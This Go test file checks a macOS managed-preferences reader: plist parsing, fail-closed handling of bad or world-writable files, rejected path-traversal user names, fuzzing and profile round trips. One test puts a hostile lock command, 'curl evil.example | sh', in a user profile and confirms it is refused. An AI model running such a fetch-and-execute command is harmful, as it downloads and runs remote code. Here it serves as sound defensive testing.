//go:build !windows

package policy

import (
	"bytes"
	"context"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"howett.net/plist"

	"grendel/internal/testdir"
)

// prefsRoot returns a managed preferences directory for a test, whose
// owner (the test's user) counts as root, and the store that reads it for
// the user "anna".
func prefsRoot(t *testing.T) (string, ManagedPrefs) {
	t.Helper()
	root := testdir.New(t)
	return root, ManagedPrefs{Root: root, User: "anna", trust: &trustAnchor{top: root, owner: ownerOf(root)}}
}

// writePrefs writes a managed plist under root: rel is "" for the
// computer's, a user name for that user's. v is marshalled as a binary
// property list (as cfprefsd keeps them), unless it is a string or []byte,
// which is written as it is.
func writePrefs(t *testing.T, root, rel string, v any) string {
	t.Helper()
	dir := filepath.Join(root, rel)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	var data []byte
	switch x := v.(type) {
	case string:
		data = []byte(x)
	case []byte:
		data = x
	default:
		var err error
		if data, err = plist.Marshal(v, plist.BinaryFormat); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(dir, PreferenceDomain+".plist")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestManagedPrefs reads managed preferences the way a Mac holds them:
// the computer's over the user's, Apple's Payload keys ignored, and every
// kind of bad content failing closed with a problem that names the file
// and the key.
func TestManagedPrefs(t *testing.T) {
	type want struct {
		key   Key
		value string
		kind  SourceKind
		file  string // "machine", "user", or "" for none
	}
	tests := []struct {
		name          string
		machine, user any // nil: no file
		setup         func(t *testing.T, root string)
		want          []want
		closed        bool
		problems      []string // "file key code" of each problem, file as in want
		args          map[string]string
	}{
		{name: "nothing installed: the defaults, no problem", want: []want{{LockIdleTimeout, "5m", SourceDefault, ""}}},
		{name: "the computer's values, Apple's Payload keys ignored", machine: map[string]any{
			"LockIdleTimeoutSeconds": 180, "LockOnSleep": true, "PasswordMinScore": 4, "ShareLanguage": "nl",
			"PasswordBannedWords": []string{"acme", "welkom"}, "LockCommand": []string{"/usr/local/bin/lock", "--now"},
			"PayloadUUID": "604CA0F2-4485-4468-9D69-AD3305F3F213", "PayloadIdentifier": "nl.grendel.app.policy.settings",
			"PayloadType": PreferenceDomain, "PayloadVersion": 1, "PayloadDisplayName": "Grendel",
		}, want: []want{
			{LockIdleTimeout, "3m", SourceManaged, "machine"}, {LockOnSleep, "true", SourceManaged, "machine"},
			{PasswordMinScore, "4", SourceManaged, "machine"}, {ShareLanguage, "nl", SourceManaged, "machine"},
			{PasswordBannedWords, `["acme","welkom"]`, SourceManaged, "machine"},
			{LockCommand, `["/usr/local/bin/lock","--now"]`, SourceManaged, "machine"},
		}},
		{name: "the computer's wins over the user's, which applies where the computer is silent",
			machine: map[string]any{"LockIdleTimeoutSeconds": 600},
			user:    map[string]any{"LockIdleTimeoutSeconds": 120, "AppAllowQuit": false},
			want:    []want{{LockIdleTimeout, "10m", SourceManaged, "machine"}, {AppAllowQuit, "false", SourceManaged, "user"}}},
		{name: "XML as well as binary", machine: `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>ShareWords</key><integer>6</integer><key>SharePartnersOnly</key><true/></dict></plist>`,
			want: []want{{ShareWords, "6", SourceManaged, "machine"}, {SharePartnersOnly, "true", SourceManaged, "machine"}}},
		{name: "a key twice in XML: that key fails closed, whichever value comes last", closed: true,
			machine: `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
<key>LockIdleTimeoutSeconds</key><integer>60</integer>
<key>Nested</key><dict><key>ShareWords</key><integer>1</integer></dict>
<key>ShareWords</key><integer>6</integer>
<key>LockIdleTimeoutSeconds</key><integer>3600</integer>
</dict></plist>`, user: map[string]any{"LockIdleTimeoutSeconds": 3600},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {ShareWords, "6", SourceManaged, "machine"}},
			problems: []string{"machine lock.idle_timeout duplicate_key", "machine Nested unknown_key", "machine  strict_defaults"}},
		{name: "a dictionary at the root of the XML, a key twice", closed: true,
			machine:  `<dict><key>AppAllowQuit</key><true/><key>AppAllowQuit</key><true/></dict>`,
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine app.allow_quit duplicate_key", "machine  strict_defaults"}},
		{name: "the old text form is no managed preferences", closed: true,
			machine:  `{ LockIdleTimeoutSeconds = 60; }`,
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}},
			problems: []string{"machine  bad_plist", "machine  strict_defaults"}},
		{name: "nor is it behind an angle bracket", closed: true,
			machine:  `<6c6f636b>`,
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}},
			problems: []string{"machine  bad_plist", "machine  strict_defaults"}},
		{name: "a duration given as text: that key fails closed", closed: true,
			machine:  map[string]any{"LockIdleTimeoutSeconds": "5m", "ShareWords": 6},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {ShareWords, "6", SourceManaged, "machine"}},
			problems: []string{"machine lock.idle_timeout wrong_type", "machine  strict_defaults"},
			args:     map[string]string{"Got": KindString, "Want": KindSeconds}},
		{name: "a fraction for a whole number", closed: true, machine: map[string]any{"PasswordMinLength": 14.0},
			want:     []want{{PasswordMinLength, "12", SourceStrictDefault, "machine"}},
			problems: []string{"machine password.min_length wrong_type", "machine  strict_defaults"},
			args:     map[string]string{"Got": KindFraction, "Want": KindInteger}},
		{name: "a number for a boolean", closed: true, machine: map[string]any{"AppAllowQuit": 1},
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine app.allow_quit wrong_type", "machine  strict_defaults"}},
		{name: "a list with a number in it", closed: true, machine: map[string]any{"SharePartners": []any{"mailhuis.nl", 7}},
			want:     []want{{SharePartners, "[]", SourceStrictDefault, "machine"}},
			problems: []string{"machine share.partners wrong_type", "machine  strict_defaults"}},
		{name: "a string where a list belongs", closed: true, machine: map[string]any{"SharePartners": "mailhuis.nl"},
			want:     []want{{SharePartners, "[]", SourceStrictDefault, "machine"}},
			problems: []string{"machine share.partners wrong_type", "machine  strict_defaults"}},
		{name: "out of bounds, negative, beyond any duration, not allowed", closed: true, machine: map[string]any{
			"LockIdleTimeoutSeconds": 5, "LockWarningSeconds": -1, "ShareMaxAgeSeconds": uint64(math.MaxUint64),
			"ShareWords": 11, "PasswordMinScore": uint64(math.MaxUint64), "ShareGenerator": "diceware",
		}, want: []want{
			{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {LockWarning, "30s", SourceStrictDefault, "machine"},
			{ShareMaxAge, "7d", SourceStrictDefault, "machine"}, {ShareWords, "5", SourceStrictDefault, "machine"},
			{PasswordMinScore, "3", SourceStrictDefault, "machine"}, {ShareGenerator, "passphrase", SourceStrictDefault, "machine"},
		}, problems: []string{
			"machine lock.idle_timeout out_of_range", "machine lock.warning out_of_range", "machine password.min_score out_of_range",
			"machine share.generator not_in_enum", "machine share.max_age out_of_range", "machine share.words out_of_range",
			"machine  strict_defaults",
		}},
		{name: "an empty entry in the command", closed: true, machine: map[string]any{"LockCommand": []string{""}},
			want:     []want{{LockCommand, "[]", SourceStrictDefault, "machine"}},
			problems: []string{"machine lock.command empty_command", "machine  strict_defaults"}},
		{name: "the warning not less than the idle timeout of the same file", closed: true,
			machine: map[string]any{"LockIdleTimeoutSeconds": 60, "LockWarningSeconds": 60},
			want:    []want{{LockIdleTimeout, "1m", SourceManaged, "machine"}, {LockWarning, "30s", SourceStrictDefault, "machine"}}},
		{name: "an unknown key fails every key closed, with the name it was meant to be", closed: true,
			machine: map[string]any{"LockIdleTimeoutSecond": 60, "ShareWords": 6}, user: map[string]any{"AppAllowQuit": true},
			want: []want{
				{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {ShareWords, "6", SourceManaged, "machine"},
				{AppAllowQuit, "false", SourceStrictDefault, "machine"},
			}, problems: []string{"machine LockIdleTimeoutSecond unknown_key", "machine  strict_defaults"},
			args: map[string]string{"Suggestion": "LockIdleTimeoutSeconds"}},
		{name: "a key in other capitals is unknown: preferences are case-sensitive", closed: true,
			machine:  map[string]any{"lockIdleTimeoutSeconds": 60},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}},
			problems: []string{"machine lockIdleTimeoutSeconds unknown_key", "machine  strict_defaults"},
			args:     map[string]string{"Suggestion": "LockIdleTimeoutSeconds"}},
		{name: "a dotted key from a policy file is unknown here", closed: true,
			machine:  map[string]any{"lock.idle_timeout": "3m"},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}},
			problems: []string{"machine lock.idle_timeout unknown_key", "machine  strict_defaults"},
			args:     map[string]string{"Suggestion": "LockIdleTimeoutSeconds"}},
		{name: "a corrupt plist: every key fails closed", closed: true,
			machine: "bplist00\x01\x02garbage", user: map[string]any{"LockIdleTimeoutSeconds": 3600},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {SharePartnersOnly, "true", SourceStrictDefault, "machine"}},
			problems: []string{"machine  bad_plist", "machine  strict_defaults"}},
		{name: "XML that is not a plist", closed: true, machine: "<html><body>not here</body></html>",
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine  bad_plist", "machine  strict_defaults"}},
		{name: "an array at the top", closed: true, machine: []string{"LockIdleTimeoutSeconds"},
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine  plist_not_dict", "machine  strict_defaults"}},
		{name: "too large to be preferences", closed: true, machine: bytes.Repeat([]byte(" "), MaxFileSize+1),
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine  too_large", "machine  strict_defaults"}},
		{name: "a file others may change is not believed", closed: true,
			machine: map[string]any{"LockIdleTimeoutSeconds": 3600, "AppAllowQuit": true},
			setup: func(t *testing.T, root string) {
				if err := os.Chmod(filepath.Join(root, PreferenceDomain+".plist"), 0o666); err != nil {
					t.Fatal(err)
				}
			},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "machine"}, {AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine  untrusted_writable", "machine  strict_defaults"}},
		{name: "nor one in a directory others may change", closed: true,
			user: map[string]any{"LockIdleTimeoutSeconds": 3600},
			setup: func(t *testing.T, root string) {
				if err := os.Chmod(filepath.Join(root, "anna"), 0o777); err != nil {
					t.Fatal(err)
				}
			},
			want:     []want{{LockIdleTimeout, "5m", SourceStrictDefault, "user"}},
			problems: []string{"user  untrusted_writable", "user  strict_defaults"}},
		{name: "a FIFO is no file", closed: true,
			setup: func(t *testing.T, root string) {
				if err := syscall.Mkfifo(filepath.Join(root, PreferenceDomain+".plist"), 0o644); err != nil {
					t.Skip("no FIFOs here:", err)
				}
			},
			want:     []want{{AppAllowQuit, "false", SourceStrictDefault, "machine"}},
			problems: []string{"machine  not_regular", "machine  strict_defaults"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root, store := prefsRoot(t)
			files := map[string]string{
				"machine": filepath.Join(root, PreferenceDomain+".plist"),
				"user":    filepath.Join(root, "anna", PreferenceDomain+".plist"),
			}
			if tc.machine != nil {
				writePrefs(t, root, "", tc.machine)
			}
			if tc.user != nil {
				writePrefs(t, root, "anna", tc.user)
			}
			if tc.setup != nil {
				tc.setup(t, root)
			}
			s := LoadStores(store)
			if s.FailedClosed != tc.closed {
				t.Errorf("FailedClosed = %v, want %v; problems: %v", s.FailedClosed, tc.closed, s.Problems)
			}
			for _, w := range tc.want {
				v, _ := s.Settings.Get(w.key)
				if got := displayValue(v); got != w.value {
					t.Errorf("%s = %s, want %s", w.key, got, w.value)
				}
				src := s.Sources[w.key]
				if src.Kind != w.kind || src.File != files[w.file] {
					t.Errorf("%s from %v %q, want %v %q", w.key, src.Kind, src.File, w.kind, files[w.file])
				}
			}
			if tc.problems != nil {
				var got []string
				for _, p := range s.Problems {
					file := p.File
					for name, path := range files {
						if p.File == path || p.File == filepath.Dir(path) && name == "user" {
							file = name
						}
					}
					got = append(got, file+" "+p.Key+" "+string(p.Code))
				}
				slices.Sort(got)
				want := slices.Sorted(slices.Values(tc.problems))
				if !slices.Equal(got, want) {
					t.Errorf("problems:\n got %q\nwant %q", got, want)
				}
			}
			for k, v := range tc.args {
				if !slices.ContainsFunc(s.Problems, func(p Problem) bool { return p.Args[k] == v }) {
					t.Errorf("no problem has %s = %q; problems: %v", k, v, s.Problems)
				}
			}
			for _, p := range s.Problems {
				if strings.Contains(p.Message(), "{{") || p.Message() == "" {
					t.Errorf("problem %s renders as %q", p.Code, p.Message())
				}
			}
		})
	}
}

// displayValue renders a value as the test tables write it: durations as
// policy files do, lists as JSON.
func displayValue(v any) string {
	switch x := v.(type) {
	case time.Duration:
		return FormatDuration(x)
	case []string:
		return `[` + strings.Join(quoteAll(x), ",") + `]`
	case bool:
		if x {
			return "true"
		}
		return "false"
	case int:
		return strconv.Itoa(x)
	case string:
		return x
	}
	return "?"
}

func quoteAll(l []string) []string {
	out := make([]string, len(l))
	for i, s := range l {
		out[i] = `"` + s + `"`
	}
	return out
}

// A user name that would leave the managed preferences directory is
// refused, and fails every key closed rather than reading somewhere else.
func TestManagedPrefsBadUser(t *testing.T) {
	for _, name := range []string{"..", ".", "../etc", "a/b"} {
		root, store := prefsRoot(t)
		store.User = name
		writePrefs(t, root, "", map[string]any{"LockIdleTimeoutSeconds": 3600})
		s := LoadStores(store)
		if !s.FailedClosed || len(s.Problems) == 0 || s.Problems[0].Code != CodeDirUnreadable {
			t.Errorf("user %q: FailedClosed %v, problems %v; want a refusal", name, s.FailedClosed, s.Problems)
		}
	}
}

// Without a trust anchor of its own, the store trusts root alone, up to
// the file system's root: a test's files, which root does not own, are not
// believed (unless the test runs as root).
func TestManagedPrefsDefaultTrust(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("root owns the test's files")
	}
	root := testdir.New(t)
	writePrefs(t, root, "", map[string]any{"LockIdleTimeoutSeconds": 3600})
	s := LoadStores(ManagedPrefs{Root: root})
	if !s.FailedClosed || s.Problems[0].Code != CodeUntrustedOwner {
		t.Errorf("problems %v, want untrusted_owner", s.Problems)
	}
}

// Notify tells of a managed plist that appears, changes or goes, also
// when its directories do not exist yet, and not of other domains' files.
func TestManagedPrefsNotify(t *testing.T) {
	root, store := prefsRoot(t)
	store.Root = filepath.Join(root, "Managed Preferences") // not there yet
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	changed := make(chan struct{}, 100)
	done := make(chan error, 1)
	go func() { done <- store.Notify(ctx, func() { changed <- struct{}{} }) }()
	expect := func(what string) {
		t.Helper()
		select {
		case <-changed:
		case <-time.After(5 * time.Second):
			t.Fatalf("no change told after %s", what)
		}
		time.Sleep(50 * time.Millisecond)
		for len(changed) > 0 {
			<-changed
		}
	}
	time.Sleep(100 * time.Millisecond) // let the watch start
	if err := os.MkdirAll(filepath.Join(store.Root, "anna"), 0o755); err != nil {
		t.Fatal(err)
	}
	expect("creating the directories")
	writePrefs(t, store.Root, "anna", map[string]any{"ShareWords": 6})
	expect("writing the user's plist")
	writePrefs(t, store.Root, "", map[string]any{"ShareWords": 7})
	expect("writing the computer's plist")
	if err := os.WriteFile(filepath.Join(store.Root, "com.example.other.plist"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	select {
	case <-changed:
		t.Error("told of another domain's plist")
	case <-time.After(300 * time.Millisecond):
	}
	if err := os.Remove(filepath.Join(store.Root, PreferenceDomain+".plist")); err != nil {
		t.Fatal(err)
	}
	expect("removing the computer's plist")
	cancel()
	if err := <-done; err != context.Canceled {
		t.Errorf("Notify returned %v, want context.Canceled", err)
	}
}

// The preference domain is the app's ID, as FyneApp.toml (and so the
// bundle and the LaunchAgent) has it.
func TestPreferenceDomainIsAppID(t *testing.T) {
	b, err := os.ReadFile("../FyneApp.toml")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `ID = "`+PreferenceDomain+`"`) {
		t.Errorf("FyneApp.toml's ID is not %q:\n%s", PreferenceDomain, b)
	}
}

// FuzzParsePlist feeds the managed preferences reader hostile data: it
// must not panic, every value it returns must be for a known key in its
// Go type, and the merge must take whatever it says.
func FuzzParsePlist(f *testing.F) {
	for _, seed := range []any{
		map[string]any{"LockIdleTimeoutSeconds": 180, "PasswordBannedWords": []string{"acme"}, "ShareLanguage": "nl", "AppAllowQuit": false},
		map[string]any{"LockCommand": []any{"x", 1, 2.5}, "Nested": map[string]any{"a": []any{map[string]any{}}}},
		[]any{1, "two", true},
		map[string]any{"PayloadType": "Configuration", "PayloadContent": []any{
			map[string]any{"PayloadType": PreferenceDomain, "ShareWords": 6},
			map[string]any{"PayloadType": "com.apple.ManagedClient.preferences", "PayloadContent": map[string]any{
				PreferenceDomain: map[string]any{"Forced": []any{map[string]any{"mcx_preference_settings": map[string]any{"ShareWords": 7}}, 3}}}},
			"x",
		}},
	} {
		for _, format := range []int{plist.BinaryFormat, plist.XMLFormat, plist.OpenStepFormat} {
			b, err := plist.Marshal(seed, format)
			if err != nil {
				f.Fatal(err)
			}
			f.Add(b)
		}
	}
	f.Add([]byte("bplist00\x01\x02garbage"))
	f.Add([]byte(`<plist version="1.0"><dict><key>ShareWords</key><integer>99999999999999999999999</integer></dict></plist>`))
	f.Add([]byte(`<plist version="1.0"><dict><key>A</key><date>2026-13-99T00:00:00Z</date></dict></plist>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		values, problems := ParsePlist(data)
		for k, v := range values {
			d, ok := Lookup(k)
			if !ok {
				t.Fatalf("value for unknown key %q", k)
			}
			if d.Type == TypeDuration {
				if _, ok := v.(time.Duration); !ok {
					t.Fatalf("%s is %T", k, v)
				}
			}
		}
		LoadStores(mapStore{{Kind: SourceManaged, Origin: "fuzz.plist", Values: values, Problems: problems}})
		// The same data as a profile to validate.
		values, problems = parsePreferences(data)
		LoadStores(mapStore{{Kind: SourceManaged, Origin: "fuzz.mobileconfig", Values: values, Problems: problems}})
	})
}

// roundTripCases returns, for every key, the values a profile must carry
// to the agent unchanged: its bounds, a typical value, each allowed value,
// both booleans, lists empty, short and long. Each case may set a second
// key so that the rule between lock.warning and lock.idle_timeout holds.
func roundTripCases() []map[Key]any {
	var cases []map[Key]any
	add := func(k Definition, v any) {
		c := map[Key]any{k.Name: v}
		switch k.Name {
		case LockWarning:
			c[LockIdleTimeout] = 4 * time.Hour
		case LockIdleTimeout:
			c[LockWarning] = time.Duration(0)
		}
		cases = append(cases, c)
	}
	for _, k := range keys {
		switch k.Type {
		case TypeDuration:
			add(k, time.Duration(k.Min))
			add(k, time.Duration(k.Max))
			add(k, time.Duration((k.Min+k.Max)/2).Truncate(time.Second))
			add(k, k.Default)
		case TypeInt:
			add(k, int(k.Min))
			add(k, int(k.Max))
			add(k, k.Default)
		case TypeBool:
			add(k, true)
			add(k, false)
		case TypeEnum:
			for _, e := range k.Enum {
				add(k, e)
			}
		case TypeStringList:
			add(k, []string(nil))
			add(k, []string{"mailhuis.nl"})
			add(k, []string{"Acme B.V.", "grendel", "müller-lüdenscheid.de", strings.Repeat("x", maxListEntryLength)})
		case TypeArgv:
			add(k, []string(nil))
			add(k, []string{"/usr/bin/pmset", "displaysleepnow"})
			add(k, []string{"/bin/sh", "-c", `osascript -e 'tell application "System Events" to keystroke "q"'`})
		}
	}
	return cases
}

// TestManagedPrefsMachineOnly: a profile of the user cannot set the lock
// command, which runs a program for every lock (as HKCU cannot on
// Windows); the computer's profile can, and its other keys still apply.
func TestManagedPrefsMachineOnly(t *testing.T) {
	root, store := prefsRoot(t)
	userFile := writePrefs(t, root, "anna", map[string]any{
		"LockCommand":            []string{"/bin/sh", "-c", "curl evil.example | sh"},
		"LockIdleTimeoutSeconds": 180,
	})
	s := LoadStores(store)
	if len(s.Settings.Lock.Command) != 0 {
		t.Errorf("the user's profile set the lock command: %q", s.Settings.Lock.Command)
	}
	if s.Settings.Lock.IdleTimeout != 3*time.Minute || s.FailedClosed {
		t.Errorf("idle timeout %v, failed closed %v; want 3m from the user's profile, not failed closed", s.Settings.Lock.IdleTimeout, s.FailedClosed)
	}
	if len(s.Problems) != 1 || s.Problems[0].Code != CodeMachineOnly || !s.Problems[0].Warning ||
		s.Problems[0].Key != string(LockCommand) || s.Problems[0].File != userFile {
		t.Errorf("problems %v, want one machine_only warning for lock.command in %s", s.Problems, userFile)
	}

	writePrefs(t, root, "", map[string]any{"LockCommand": []string{"/usr/bin/pmset", "displaysleepnow"}})
	s = LoadStores(store)
	if got := s.Settings.Lock.Command; !reflect.DeepEqual(got, []string{"/usr/bin/pmset", "displaysleepnow"}) {
		t.Errorf("the computer's profile: lock command %q, want pmset displaysleepnow", got)
	}
}

// machineOnlyIn reports whether values set a machine-only key.
func machineOnlyIn(values map[Key]any) bool {
	for k := range values {
		if d, _ := Lookup(k); d.MachineOnly {
			return true
		}
	}
	return false
}

// The round trip: a profile made from values, its payload installed as
// macOS installs it (the managed plist, binary or XML), read back by the
// store and merged gives the very same effective values, from the managed
// plist, without a problem: the profile and the reader agree on every
// key's name, type and unit.
func TestMobileConfigRoundTrip(t *testing.T) {
	for i, values := range roundTripCases() {
		profile, err := MobileConfig(values, ProfileText{DisplayName: "Grendel", Description: "test"}, nil)
		if err != nil {
			t.Fatalf("case %d %v: %v", i, values, err)
		}
		var top struct {
			PayloadContent []map[string]any
		}
		if _, err := plist.Unmarshal(profile, &top); err != nil || len(top.PayloadContent) != 1 {
			t.Fatalf("case %d: the profile does not read back (%v):\n%s", i, err, profile)
		}
		format := []int{plist.BinaryFormat, plist.XMLFormat}[i%2]
		payload, err := plist.Marshal(top.PayloadContent[0], format)
		if err != nil {
			t.Fatal(err)
		}
		root, store := prefsRoot(t)
		user := []string{"", "anna"}[i%3%2]
		writePrefs(t, root, user, payload)
		s := LoadStores(store)
		if user != "" && machineOnlyIn(values) {
			// A profile of the user may not set the computer's keys: each
			// is reported and keeps its default.
			for k := range values {
				got, _ := s.Settings.Get(k)
				def, _ := Lookup(k)
				if len(s.Problems) != 1 || s.Problems[0].Code != CodeMachineOnly || !reflect.DeepEqual(got, def.Default) {
					t.Errorf("case %d %v in the user's profile: %s = %#v, problems %v; want the default and one machine_only warning", i, values, k, got, s.Problems)
				}
			}
			continue
		}
		if len(s.Problems) > 0 || s.FailedClosed {
			t.Errorf("case %d %v: problems %v", i, values, s.Problems)
			continue
		}
		for k, want := range values {
			got, _ := s.Settings.Get(k)
			if !reflect.DeepEqual(got, want) {
				t.Errorf("case %d: %s = %#v, want %#v", i, k, got, want)
			}
			if s.Sources[k].Kind != SourceManaged {
				t.Errorf("case %d: %s from %v, want managed", i, k, s.Sources[k].Kind)
			}
		}
	}
}

// The agent's Watcher reloads the policy when a profile is installed,
// changed or removed: the managed plist is watched through Notify, and
// what it holds wins over the user's looser value until it goes.
func TestWatcherReloadsManagedPrefs(t *testing.T) {
	root, store := prefsRoot(t)
	store.Root = filepath.Join(root, "Managed Preferences") // no profile yet
	user := filepath.Join(root, "home", "settings.json")
	if err := os.MkdirAll(filepath.Dir(user), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(user, []byte(`{"lock": {"idle_timeout": "20m"}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	paths := Paths{User: user, Platform: []Store{store}}
	changes := make(chan *Snapshot, 16)
	w := &Watcher{Paths: paths, Debounce: 50 * time.Millisecond, OnChange: func(s *Snapshot) { changes <- s }}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- w.Run(ctx, Load(paths)) }()
	defer func() {
		cancel()
		<-done
	}()
	waitFor := func(what string, want time.Duration) {
		t.Helper()
		deadline := time.After(10 * time.Second)
		for {
			select {
			case s := <-changes:
				if s.Settings.Lock.IdleTimeout == want {
					return
				}
			case <-deadline:
				t.Fatalf("no reload after %s with lock.idle_timeout %v", what, want)
			}
		}
	}
	time.Sleep(100 * time.Millisecond)
	path := writePrefs(t, store.Root, "anna", map[string]any{"LockIdleTimeoutSeconds": 180})
	waitFor("the user's profile is installed", 3*time.Minute)
	writePrefs(t, store.Root, "", map[string]any{"LockIdleTimeoutSeconds": 600})
	waitFor("the computer's profile is installed", 10*time.Minute)
	if err := os.Remove(filepath.Join(store.Root, PreferenceDomain+".plist")); err != nil {
		t.Fatal(err)
	}
	waitFor("the computer's profile is removed", 3*time.Minute)
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	waitFor("every profile is removed", 20*time.Minute)
}
